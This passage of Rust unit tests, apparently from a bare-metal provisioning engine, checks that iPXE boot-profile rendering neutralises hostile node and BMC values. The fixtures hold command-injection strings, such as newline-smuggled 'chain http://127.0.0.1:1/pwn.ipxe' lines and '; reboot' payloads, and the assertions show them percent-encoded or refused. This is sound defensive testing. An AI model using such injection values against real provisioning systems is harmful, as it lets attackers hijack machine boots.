            updated_at: String::new(),
        };
        let options = json!({
            "kernel": "http://10.0.0.1/vmlinuz",
            "initrd": "http://10.0.0.1/initrd.img",
            "kernelParams": "console=ttyS0 BOOTIF=${net0/mac} host={{ node.name }} bmc={{ context.discover.name }}",
        });
        let task = NodeTask {
            workflow_id: "wf".into(),
            graph: "Graph.InstallOS.PXE".into(),
            label: "wait-installed".into(),
            task_id: "t".into(),
            job: "wait.notification".into(),
            state: TaskState::Running,
            options: options.as_object().unwrap().clone(),
            token: "0123456789abcdef0123456789abcdef".into(),
            cap: metalgraph_engine::NodeCaps::random().cap("n1", "wf", "t", "tok"),
            context:
                json!({"discover": {"name": "bmc\n#!ipxe\nchain http://127.0.0.1:1/pwn.ipxe"}})
                    .as_object()
                    .unwrap()
                    .clone(),
            dialect: Default::default(),
            data: Vec::new(),
        };
        let report = Report {
            macs: vec!["52:54:00:00:00:01".parse().unwrap()],
            ..Report::default()
        };
        (node, task, report)
    }

    fn render(
        template: &str,
        node: &Node,
        task: Option<&NodeTask>,
        profile: &str,
    ) -> Result<String, String> {
        let report = hostile().2;
        let vars = ProfileVars {
            node,
            task,
            profile,
            api_base: "http://10.0.0.1:8080/api/2.0",
            node_base: "http://10.0.0.1:8090/api/2.0",
            report: &report,
            proven: true,
        }
        .build()?;
        profile_renderer().render_str(template, &vars)
    }

    #[test]
    fn what_a_node_controls_becomes_inert_words_in_a_profile() {
        let (node, task, _) = hostile();
        let script = render(
            builtin_template("install.ipxe").unwrap(),
            &node,
            Some(&task),
            "install.ipxe",
        )
        .expect("the shipped profile renders");
        assert!(
            script.contains("echo metalgraph: installing node evil%20%26%26%20chain%20http://127.0.0.1:1/pwn.ipxe (n1), workflow wf\n"),
            "{script}"
        );
        // The operator's spaces and ${...} stay; what the node and its BMC sent does not.
        assert!(
            script.contains(
                "kernel http://10.0.0.1/vmlinuz console=ttyS0 BOOTIF=${net0/mac} \
                 host=evil%20%26%26%20chain%20http://127.0.0.1:1/pwn.ipxe \
                 bmc=bmc%0A%23!ipxe%0Achain%20http://127.0.0.1:1/pwn.ipxe metalgraph.node=n1 "
            ),
            "{script}"
        );
        for line in script.lines() {
            assert!(!line.trim_start().starts_with("chain"), "{line}");
        }

        let script = render(
            "#!ipxe\necho {{ node.tags | join(',') }} {{ node.obmHost }} {{ profile.name }}\n",
            &node,
            None,
            "a b",
        )
        .unwrap();
        assert_eq!(
            script,
            "#!ipxe\necho role=x%20%3B%20reboot 10.0.0.5%0Achain%20http://127.0.0.1:1/pwn.ipxe a%20b\n"
        );
    }

    #[test]
    fn a_printed_value_that_would_add_a_line_fails_the_profile() {
        let (node, mut task, _) = hostile();
        task.options.insert(
            "kernelParams".into(),
            json!("quiet\nchain http://127.0.0.1:1/pwn.ipxe"),
        );
        let err = render(
            builtin_template("install.ipxe").unwrap(),
            &node,
            Some(&task),
            "install.ipxe",
        )
        .expect_err("an operator's option with a line break is refused too");
        assert!(err.contains("control character"), "{err}");
        let err = render(
            "#!ipxe\necho {{ options.kernel ~ '\\\\' }}\nreboot\n",
            &node,
            Some(&task),
            "p",
        )
        .expect_err("a trailing backslash would join the next line");
        assert!(err.contains("backslash"), "{err}");
    }

    #[test]
    fn the_token_and_capability_are_rendered_only_for_the_proven_node() {
        let (node, task, report) = hostile();
        let vars = |proven| {
            ProfileVars {
                node: &node,
                task: Some(&task),
                profile: "p",
                api_base: "http://10.0.0.1:8080/api/2.0",
                node_base: "http://10.0.0.1:8090/api/2.0",
                report: &report,
                proven,
            }
            .build()
        };
        let cap = task.cap.as_str().to_owned();
        let shown = vars(true).unwrap();
        assert_eq!(shown["task"]["token"], task.token.as_str());
        assert_eq!(shown["notification"]["cap"], cap.as_str());
        assert!(
            shown["profile"]["url"]
                .as_str()
                .unwrap()
                .ends_with(&format!("&cap={cap}"))
        );

        let hidden = vars(false).unwrap();
        let text = hidden.to_string();
        assert!(
            !text.contains(&task.token) && !text.contains(&cap),
            "{text}"
        );
        assert!(hidden.get("notification").is_none());
        assert_eq!(hidden["task"]["label"], "wait-installed");
        // A profile that needs the callback cannot render without it.
        let err = profile_renderer()
            .render_str("#!ipxe\nimgfetch {{ notification.url }}\n", &hidden)
            .unwrap_err();
        assert!(err.contains("undefined"), "{err}");
        // Nor can options that would carry the token or capability.
        let mut sneaky = task.clone();
        sneaky
            .options
            .insert("kernelParams".into(), json!("cb={{ task.token }}"));
        let err = ProfileVars {
            node: &node,
            task: Some(&sneaky),
            profile: "p",
            api_base: "",
            node_base: "http://10.0.0.1:8090/api/2.0",
            report: &report,
            proven: false,
        }
        .build()
        .unwrap_err();
        assert!(err.contains("kernelParams"), "{err}");
    }
}
